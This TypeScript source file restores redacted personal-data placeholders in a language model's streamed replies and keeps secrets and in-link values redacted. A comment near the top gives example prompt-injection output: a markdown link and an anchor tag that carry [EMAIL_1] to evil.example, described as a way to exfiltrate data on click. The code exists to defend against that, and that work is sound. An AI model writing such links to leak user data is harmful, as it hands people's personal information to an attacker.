import type { EntityType } from "../types";
import { ENTITY_TYPES } from "./find";
import { LinkContext } from "./link-context";
import { MAX_PLACEHOLDER_INDEX } from "./placeholders";

/** Longest unfinished placeholder: "[SECRET_999999" (the closing bracket would finish it). */
const MAX_PARTIAL = 1 + Math.max(...ENTITY_TYPES.map((type) => type.length)) + 1 + String(MAX_PLACEHOLDER_INDEX).length;

const PLACEHOLDER = new RegExp(`\\[(?:${ENTITY_TYPES.join("|")})_[1-9]\\d{0,5}\\]`, "g");
/**
 * Restores placeholders in a streamed reply. A chunk may end inside a placeholder ("… at [EMA"),
 * so the end of each chunk that could still become one is held back until the next chunk decides
 * it; everything else is returned at once. At most {@link MAX_PARTIAL} characters are ever held,
 * and each character is looked at a bounded number of times, so a stream costs linear time.
 */
export class PlaceholderRestorer {
  #held = "";
  /**
   * Where the text written so far leaves the next placeholder. Inside a URL or a link target it stays
   * a placeholder: a model steered by an injection could write `[verify](https://evil.example/?e=[EMAIL_1])`
   * or `<a href="https://evil.example/?u=\n[EMAIL_1]">`, and restoring the value there would hand it to
   * whoever made the link as soon as the person clicks. In prose it is restored.
   */
  readonly #link = new LinkContext();

  readonly #keep: ReadonlySet<EntityType>;

  /**
   * `keep`: types whose placeholders stay as they are. By default SECRET: a key or password the person
   * pasted is not written back into the reply, because output secrets never reach the browser (the
   * output guard redacts them) and the reply is saved with the conversation.
   */
  constructor(
    private readonly map: { restore(text: string): string },
    { keep = ["SECRET"] }: { keep?: readonly EntityType[] } = {},
  ) {
    this.#keep = new Set(keep);
  }

  /** Text that is safe to show now, with placeholders restored. */
  push(chunk: string): string {
    const text = this.#held + chunk;
    const cut = unfinishedPlaceholderStart(text);
    this.#held = text.slice(cut);
    return this.#restore(text.slice(0, cut));
  }

  /** Whatever was held back, at the end of the stream. */
  end(): string {
    const rest = this.#held;
    this.#held = "";
    return this.#restore(rest);
  }

  #restore(text: string): string {
    if (!text.includes("[")) {
      this.#link.feed(text);
      return text;
    }
    let out = "";
    let last = 0;
    for (const match of text.matchAll(PLACEHOLDER)) {
      const placeholder = match[0];
      const before = text.slice(last, match.index);
      this.#link.feed(before);
      const type = placeholder.slice(1, placeholder.indexOf("_")) as EntityType;
      const keep = this.#keep.has(type) || this.#link.inside;
      const written = keep ? placeholder : this.map.restore(placeholder);
      this.#link.feed(written);
      out += before + written;
      last = match.index + placeholder.length;
    }
    const rest = text.slice(last);
    this.#link.feed(rest);
    return out + rest;
  }
}

/** Where a possible unfinished placeholder starts at the end of `text`, or `text.length`. */
function unfinishedPlaceholderStart(text: string): number {
  const open = text.lastIndexOf("[");
  if (open === -1 || text.length - open > MAX_PARTIAL) return text.length;
  return couldBecomePlaceholder(text.slice(open + 1)) ? open : text.length;
}

/** "EMA", "EMAIL_", "EMAIL_12": what may follow "[" in a placeholder not yet closed. */
function couldBecomePlaceholder(rest: string): boolean {
  const underscore = rest.indexOf("_");
  if (underscore === -1) return ENTITY_TYPES.some((type) => type.startsWith(rest));
  const type = rest.slice(0, underscore);
  const digits = rest.slice(underscore + 1);
  return ENTITY_TYPES.includes(type as EntityType) && /^(?:[1-9]\d{0,5})?$/.test(digits);
}
